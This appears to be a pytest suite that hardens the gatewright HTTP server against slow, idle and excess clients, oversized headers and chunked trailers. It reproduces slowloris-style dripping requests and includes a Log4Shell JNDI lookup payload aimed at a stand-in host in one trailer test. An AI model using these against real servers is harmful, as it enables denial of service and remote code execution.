"""Slow, idle and too many clients against a real server: each wait ends, and everyone else is served meanwhile."""

from __future__ import annotations

import asyncio
import json
import pickle
import socket
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import uvicorn

from gatewright.cli.serve import _server_options
from gatewright.settings import Settings
from tests.support.server import DemoServer
from tests.support.waiting import eventually

HEADER, BODY, KEEP_ALIVE, MOST = 1.0, 1.5, 1.0, 260
SOON = 15.0
"""Seconds by which every wait has ended, with room for a busy machine."""

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DemoServer]:
    limits = {
        "GATEWRIGHT_HEADER_TIMEOUT_SECONDS": str(HEADER),
        "GATEWRIGHT_BODY_TIMEOUT_SECONDS": str(BODY),
        "GATEWRIGHT_KEEP_ALIVE_SECONDS": str(KEEP_ALIVE),
        "GATEWRIGHT_MAX_CONNECTIONS": str(MOST),
    }
    made = DemoServer(Path(tmp_path_factory.mktemp("slow")) / "data", environment=limits).start()
    yield made
    made.stop()


@asynccontextmanager
async def connections(server: DemoServer, count: int) -> AsyncIterator[list[Connection]]:
    opened = [await asyncio.open_connection("127.0.0.1", server.port) for _ in range(count)]
    try:
        yield opened
    finally:
        for _, writer in opened:
            writer.close()


async def ended(reader: asyncio.StreamReader) -> bytes:
    """All that still comes, when the server has closed the connection."""
    try:
        return await asyncio.wait_for(reader.read(), SOON)
    except ConnectionError:
        return b""


async def drip(writer: asyncio.StreamWriter, piece: bytes) -> None:
    """Send a piece again and again, as slowly as keeps a naive time limit from running out."""
    try:
        while True:
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(0.05)
    except ConnectionError:
        return


async def is_served(server: DemoServer) -> float:
    """Seconds that a probe took."""
    started = time.monotonic()
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    answer = await asyncio.wait_for(reader.read(), SOON)
    writer.close()
    assert answer.startswith(b"HTTP/1.1 200"), answer
    return time.monotonic() - started


SLOW = {
    "nothing": (b"", b""),
    "line ends": (b"", b"\r\n"),
    "half a header": (b"GET /healthz HTTP/1.1\r\nHost: x\r\n", b""),
    "a header by the byte": (b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"a"),
    "headers without end": (b"GET /healthz HTTP/1.1\r\nHost: x\r\n", b"X-Slow: a\r\n"),
    "half a body": (b"POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{", b""),
    "a body by the byte": (b"POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n\r\n", b"a"),
    "chunks by the byte": (
        b"POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"1\r\na\r\n",
    ),
    "trailers without end": (
        b"POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
        b"x-api-key: a\r\n",
    ),
    "a body after its refusal": (b"POST /v1/sessions HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n", b"a"),
    "a second header after an answer": (
        b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\nGET /healthz HTTP/1.1\r\n",
        b"X: a\r\n",
    ),
    "line ends after an answer": (b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", b"\r\n"),
    "nothing after an answer": (b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", b""),
}


@pytest.mark.parametrize("kind", SLOW)
async def test_every_wait_for_a_client_ends(server: DemoServer, kind: str) -> None:
    first, piece = SLOW[kind]
    async with connections(server, 1) as ((reader, writer),):
        writer.write(first)
        dripping = asyncio.create_task(drip(writer, piece)) if piece else None
        answer = await ended(reader)
        if dripping is not None:
            dripping.cancel()
    if kind.startswith(("half a header", "a header", "headers", "half a body", "a body by", "chunks")):
        assert answer.startswith(b"HTTP/1.1 408")
        document = json.loads(answer.partition(b"\r\n\r\n")[2])
        assert document["code"] == "REQUEST_TIMEOUT" and document["recommended_action"] and document["timestamp"]


async def test_200_slow_clients_keep_nobody_from_being_served(server: DemoServer) -> None:
    started = time.monotonic()
    async with connections(server, 240) as opened:
        kinds = list(SLOW.values())
        dripping = []
        for number, (_, writer) in enumerate(opened[200:]):
            first, piece = kinds[number % len(kinds)]
            writer.write(first)
            if piece:
                dripping.append(asyncio.create_task(drip(writer, piece)))
        waits = [await is_served(server) for _ in range(10)]
        await asyncio.gather(*(ended(reader) for reader, _ in opened))
        for task in dripping:
            task.cancel()
    assert max(waits) < 5.0
    assert time.monotonic() - started < 2 * SOON


async def test_over_the_most_connections_the_longest_idle_one_makes_room(server: DemoServer) -> None:
    async with connections(server, MOST + 60) as opened:
        assert await is_served(server) < 5.0
        assert await asyncio.wait_for(opened[0][0].read(), SOON) == b""


async def test_a_header_that_is_too_large_is_refused_while_it_arrives(server: DemoServer) -> None:
    async with connections(server, 1) as ((reader, writer),):
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        await writer.drain()
        for number in range(300):
            writer.write(b"X-Line-%d: " % number + b"v" * 1_000 + b"\r\n")
            await asyncio.sleep(0)
        answer = await ended(reader)
    assert answer == b"" or answer.startswith(b"HTTP/1.1 431")


async def test_a_whole_header_that_is_too_large_is_a_problem_document(server: DemoServer) -> None:
    async with connections(server, 1) as ((reader, writer),):
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Big: " + b"v" * 70_000 + b"\r\n\r\n")
        answer = await ended(reader)
    assert answer.startswith(b"HTTP/1.1 431") and b"application/problem+json" in answer


async def test_what_is_no_http_is_a_problem_document_too(server: DemoServer) -> None:
    async with connections(server, 1) as ((reader, writer),):
        writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n")
        answer = await ended(reader)
    assert answer.startswith(b"HTTP/1.1 400") and b"MALFORMED_REQUEST" in answer and b"nosniff" in answer


async def test_trailers_do_not_become_headers(server: DemoServer) -> None:
    """After the request was checked, a credential must not appear in it."""
    async with connections(server, 1) as ((reader, writer),):
        writer.write(
            b"POST /v1/inspect HTTP/1.1\r\nHost: x\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n"
            b"Content-Type: application/json\r\n\r\n2\r\n{}\r\n0\r\n"
            + b"x-trailer: ${jndi:ldap://e.example/a}\r\n" * 150
            + b"\r\n"
        )
        answer = await ended(reader)
    assert answer.startswith(b"HTTP/1.1 401"), answer


async def test_trailers_do_not_reach_the_application() -> None:
    async def echo(scope: Any, receive: Any, send: Any) -> None:
        while (await receive()).get("more_body"):
            pass
        names = b" ".join(name for name, _ in scope["headers"])
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", b"%d" % len(names))]})
        await send({"type": "http.response.body", "body": names})

    options = _server_options(Settings(database=":memory:"))
    running = uvicorn.Server(uvicorn.Config(echo, lifespan="off", **options))
    listener = socket.create_server(("127.0.0.1", 0))
    task = asyncio.create_task(running.serve(sockets=[listener]))
    await eventually(lambda: running.started)
    reader, writer = await asyncio.open_connection(*listener.getsockname())
    writer.write(b"POST / HTTP/1.1\r\nHost: x\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n")
    writer.write(b"1\r\na\r\n0\r\nX-Gatewright-Tier: enterprise\r\n\r\n")
    answer = await ended(reader)
    writer.close()
    running.should_exit = True
    await task
    assert answer.endswith(b"host connection transfer-encoding"), answer


async def test_an_upload_that_keeps_moving_is_not_cut_off(server: DemoServer) -> None:
    """100 KB in 2.5 s, longer than the limit for a body that does not move."""
    body = json.dumps({"email": "a@example.com", "password": "x", "pad": "y" * 100_000}).encode()
    async with connections(server, 1) as ((reader, writer),):
        writer.write(
            b"POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body)
        )
        step = len(body) // 49
        for at in range(0, len(body), step):
            writer.write(body[at : at + step])
            await writer.drain()
            await asyncio.sleep(0.05)
        answer = await ended(reader)
    assert answer.startswith(b"HTTP/1.1 422"), answer[:200]


async def test_requests_on_one_connection_and_pipelined_ones_are_served(server: DemoServer) -> None:
    one = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
    async with connections(server, 1) as ((reader, writer),):
        for _ in range(20):
            writer.write(one)
            assert (await reader.readuntil(b'{"status":"ok"}')).startswith(b"HTTP/1.1 200")
            await asyncio.sleep(0.05)
        writer.write(one * 20)
        rest = await ended(reader)
    assert rest.count(b"HTTP/1.1 200") == 20


def test_workers_get_the_same_limits() -> None:
    """Each is a process of its own, to which the options travel."""
    settings = Settings(database=":memory:", max_connections=77)
    options = pickle.loads(pickle.dumps(_server_options(settings)))
    assert options["http"].keywords["limits"].max_connections == 77
